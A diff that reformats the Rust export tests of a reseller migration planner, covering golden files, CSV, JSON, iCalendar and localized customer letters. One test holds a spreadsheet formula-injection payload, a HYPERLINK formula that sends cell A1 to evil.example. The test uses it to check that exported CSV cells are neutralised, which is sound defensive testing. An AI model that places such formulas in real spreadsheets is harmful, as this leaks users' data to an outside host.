@@ -79,9 +79,15 @@ fn golden(name: &str, actual: &str) {
         std::fs::write(&path, actual).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
         return;
     }
-    let expected = std::fs::read_to_string(&path).unwrap_or_else(|error| panic!("{}: {error} (run with UPDATE_GOLDEN=1 to create it)", path.display()));
+    let expected = std::fs::read_to_string(&path).unwrap_or_else(|error| {
+        panic!("{}: {error} (run with UPDATE_GOLDEN=1 to create it)", path.display())
+    });
     if expected != actual {
-        let first_difference = expected.lines().zip(actual.lines()).position(|(left, right)| left != right).unwrap_or(expected.lines().count().min(actual.lines().count()));
+        let first_difference = expected
+            .lines()
+            .zip(actual.lines())
+            .position(|(left, right)| left != right)
+            .unwrap_or(expected.lines().count().min(actual.lines().count()));
         panic!(
             "{name} differs from its golden file at line {}:\n  golden: {:?}\n  actual: {:?}\n(run with UPDATE_GOLDEN=1 after checking the change is intended)",
             first_difference + 1,
@@ -95,7 +101,10 @@ fn golden(name: &str, actual: &str) {
 fn the_partner_report_in_markdown_matches_its_golden_file_in_both_languages() {
     let plan = plan();
     for lang in Lang::ALL {
-        golden(&format!("report.{}.md", lang.code()), &to_markdown(&partner_report(&plan, &draft().input, lang)));
+        golden(
+            &format!("report.{}.md", lang.code()),
+            &to_markdown(&partner_report(&plan, &draft().input, lang)),
+        );
     }
 }
 
@@ -118,7 +127,10 @@ fn the_csv_matches_its_golden_file_with_each_separator_and_language() {
 fn the_json_matches_its_golden_file_in_both_languages() {
     let plan = plan();
     for lang in Lang::ALL {
-        golden(&format!("plan.{}.json", lang.code()), &plan_with_draft_json(&plan, &draft(), lang, SAVED_AT_MS));
+        golden(
+            &format!("plan.{}.json", lang.code()),
+            &plan_with_draft_json(&plan, &draft(), lang, SAVED_AT_MS),
+        );
     }
 }
 
@@ -132,7 +144,10 @@ fn the_calendar_matches_its_golden_file_in_both_languages() {
 
 #[test]
 fn file_names_of_the_demo_carry_the_customer_and_the_date() {
-    let names: Vec<String> = FileKind::ALL.iter().map(|kind| file_name(*kind, "Contoso Rénovation SAS", as_of(), Lang::Fr)).collect();
+    let names: Vec<String> = FileKind::ALL
+        .iter()
+        .map(|kind| file_name(*kind, "Contoso Rénovation SAS", as_of(), Lang::Fr))
+        .collect();
     assert_eq!(
         names,
         [
@@ -157,7 +172,10 @@ fn the_json_file_imports_back_as_an_identical_draft() {
         assert_eq!(value["draft"]["saved_at_ms"], serde_json::json!(SAVED_AT_MS));
         assert_eq!(draft_from_plan_json(&text), Ok(draft.clone()));
         // The draft read straight from the JSON, without the app's decoder, is the same too.
-        assert_eq!(serde_json::from_value::<Draft>(value["draft"]["draft"].clone()).ok(), Some(draft.clone()));
+        assert_eq!(
+            serde_json::from_value::<Draft>(value["draft"]["draft"].clone()).ok(),
+            Some(draft.clone())
+        );
         // The plan made again from the imported draft is the plan that was exported.
         let reimported = draft_from_plan_json(&text).unwrap_or_default();
         assert_eq!(make_plan(&reimported.input, Catalog::builtin()), plan);
@@ -171,15 +189,22 @@ fn a_formula_in_an_imported_product_name_is_neutralised_in_the_csv() {
     let csv = plan_to_csv(&plan(), Separator::Comma, Lang::En);
     assert!(csv.starts_with('\u{FEFF}'), "UTF-8 byte order mark for Excel");
     let mut reader = csv::ReaderBuilder::new().from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
-    let header: Vec<String> = reader.headers().map(|header| header.iter().map(str::to_string).collect()).unwrap_or_default();
+    let header: Vec<String> =
+        reader.headers().map(|header| header.iter().map(str::to_string).collect()).unwrap_or_default();
     assert_eq!(&header[..4], ["Customer", "Subscription ID", "Product", "Channel"]);
     let records: Vec<csv::StringRecord> = reader.records().filter_map(Result::ok).collect();
     assert_eq!(records.len(), draft().input.subscriptions.len());
-    let injected = records.iter().find(|record| record.get(1) == Some("HAND-015")).map(|record| record.get(2).unwrap_or_default().to_string());
+    let injected = records
+        .iter()
+        .find(|record| record.get(1) == Some("HAND-015"))
+        .map(|record| record.get(2).unwrap_or_default().to_string());
     assert_eq!(injected.as_deref(), Some("'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Click\")"));
     for record in &records {
         for cell in record {
-            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "cell {cell:?} would run as a formula");
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "cell {cell:?} would run as a formula"
+            );
         }
     }
     // Lines end in CRLF, dates are ISO.
@@ -190,12 +215,22 @@ fn a_formula_in_an_imported_product_name_is_neutralised_in_the_csv() {
 #[test]
 fn the_semicolon_csv_uses_decimal_commas_and_french_headers() {
     let csv = plan_to_csv(&plan(), Separator::Semicolon, Lang::Fr);
-    let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
-    let header: Vec<String> = reader.headers().map(|header| header.iter().map(str::to_string).collect()).unwrap_or_default();
+    let mut reader =
+        csv::ReaderBuilder::new().delimiter(b';').from_reader(csv.trim_start_matches('\u{FEFF}').as_bytes());
+    let header: Vec<String> =
+        reader.headers().map(|header| header.iter().map(str::to_string).collect()).unwrap_or_default();
     assert_eq!(header.first().map(String::as_str), Some("Client"));
     let cost_column = header.iter().position(|name| name.starts_with("Coût")).unwrap_or(usize::MAX);
-    let costs: Vec<String> = reader.records().filter_map(Result::ok).filter_map(|record| record.get(cost_column).map(str::to_string)).filter(|cost| !cost.is_empty()).collect();
-    assert!(!costs.is_empty() && costs.iter().all(|cost| cost.contains(',') && !cost.contains('.')), "{costs:?}");
+    let costs: Vec<String> = reader
+        .records()
+        .filter_map(Result::ok)
+        .filter_map(|record| record.get(cost_column).map(str::to_string))
+        .filter(|cost| !cost.is_empty())
+        .collect();
+    assert!(
+        !costs.is_empty() && costs.iter().all(|cost| cost.contains(',') && !cost.contains('.')),
+        "{costs:?}"
+    );
 }
 
 /// Unfolds an iCalendar text (RFC 5545 §3.1) into its content lines.
@@ -216,7 +251,11 @@ fn the_calendar_is_well_formed_rfc_5545() {
         let lines = unfold(&text);
         let events = lines.iter().filter(|line| *line == "BEGIN:VEVENT").count();
         assert!(events >= 10, "{events} events");
-        assert_eq!(lines.iter().filter(|line| *line == "BEGIN:VALARM").count(), events, "one reminder per event");
+        assert_eq!(
+            lines.iter().filter(|line| *line == "BEGIN:VALARM").count(),
+            events,
+            "one reminder per event"
+        );
         let mut uids: Vec<&String> = lines.iter().filter(|line| line.starts_with("UID:")).collect();
         assert_eq!(uids.len(), events);
         uids.sort();
@@ -226,9 +265,19 @@ fn the_calendar_is_well_formed_rfc_5545() {
         let summaries: Vec<&String> = lines.iter().filter(|line| line.starts_with("SUMMARY:")).collect();
         assert!(summaries.iter().all(|summary| summary.contains("Contoso Rénovation SAS")));
         // The product name with `;`, `,` and `\` is escaped in the title.
-        assert!(summaries.iter().any(|summary| summary.contains("Visio\\; Plan 2\\, <b>bold</b> \\\\ *stars*")), "{summaries:?}");
+        assert!(
+            summaries.iter().any(|summary| summary.contains("Visio\\; Plan 2\\, <b>bold</b> \\\\ *stars*")),
+            "{summaries:?}"
+        );
         // Every milestone kind of the demo is there.
-        for kind in ["relationship-request", "auto-renew-off", "transfer", "purchase", "cancel-window-ends", "data-at-risk"] {
+        for kind in [
+            "relationship-request",
+            "auto-renew-off",
+            "transfer",
+            "purchase",
+            "cancel-window-ends",
+            "data-at-risk",
+        ] {
             assert!(uids.iter().any(|uid| uid.starts_with(&format!("UID:{kind}."))), "{kind}");
         }
     }
@@ -257,10 +306,26 @@ fn the_letter_is_in_the_chosen_language_and_names_what_the_customer_does() {
     let plan = plan();
     let english = to_markdown(&customer_letter(&plan, Lang::En));
     let french = to_markdown(&customer_letter(&plan, Lang::Fr));
-    for needle in ["reseller relationship", "Microsoft Customer Agreement", "GDAP", "recurring billing", "automatic renewal", "billing support", "What your users will notice"] {
+    for needle in [
+        "reseller relationship",
+        "Microsoft Customer Agreement",
+        "GDAP",
+        "recurring billing",
+        "automatic renewal",
+        "billing support",
+        "What your users will notice",
+    ] {
         assert!(english.contains(needle), "{needle}");
     }
-    for needle in ["relation de revendeur", "Contrat client Microsoft", "GDAP", "facturation récurrente", "renouvellement automatique", "support de facturation", "Ce que vos utilisateurs remarqueront"] {
+    for needle in [
+        "relation de revendeur",
+        "Contrat client Microsoft",
+        "GDAP",
+        "facturation récurrente",
+        "renouvellement automatique",
+        "support de facturation",
+        "Ce que vos utilisateurs remarqueront",
+    ] {
         assert!(french.contains(needle), "{needle}");
     }
     assert!(!french.contains("What we ask"));
@@ -279,7 +344,10 @@ fn a_plan_of_several_customers_gives_one_section_and_one_letter_each() {
     assert!(report.starts_with("# Migration plan: Contoso Rénovation SAS +1\n"));
     assert!(report.contains("\n## Contoso Rénovation SAS\n") && report.contains("\n## Fabrikam Ltd\n"));
     let letter = customer_letter(&plan, Lang::Fr);
-    assert_eq!(letter.blocks.iter().filter(|block| matches!(block, csp_planner::export::Block::PageBreak)).count(), 1);
+    assert_eq!(
+        letter.blocks.iter().filter(|block| matches!(block, csp_planner::export::Block::PageBreak)).count(),
+        1
+    );
     assert!(letter.plain_text().contains("Fabrikam Ltd"));
     let calendar = plan_to_ics(&plan, Lang::En, stamp());
     let lines = unfold(&calendar);
@@ -289,5 +357,8 @@ fn a_plan_of_several_customers_gives_one_section_and_one_letter_each() {
     uids.dedup();
     assert_eq!(uids.len(), count, "UIDs stay unique across customers");
     assert!(lines.iter().any(|line| line.starts_with("SUMMARY:Fabrikam Ltd – ")));
-    assert_eq!(file_name(FileKind::Csv, &csp_planner::export::plan_customer_name(&plan), as_of(), Lang::En), "migration-plan-contoso-renovation-sas-1-2026-11-24.csv");
+    assert_eq!(
+        file_name(FileKind::Csv, &csp_planner::export::plan_customer_name(&plan), as_of(), Lang::En),
+        "migration-plan-contoso-renovation-sas-1-2026-11-24.csv"
+    );
 }
